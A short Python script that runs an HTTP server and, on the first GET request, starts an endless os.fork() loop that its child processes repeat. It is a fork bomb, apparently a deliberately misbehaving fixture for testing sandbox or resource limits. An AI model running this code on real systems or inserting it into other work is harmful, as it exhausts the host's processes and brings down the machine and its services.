"""Answers, and forks without end from the first request on, as do its children."""
import http.server
import os
import threading
import time


def fork_for_ever():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        threading.Thread(target=fork_for_ever, daemon=True).start()


http.server.ThreadingHTTPServer(("", int(os.environ["PORT"])), Handler).serve_forever()
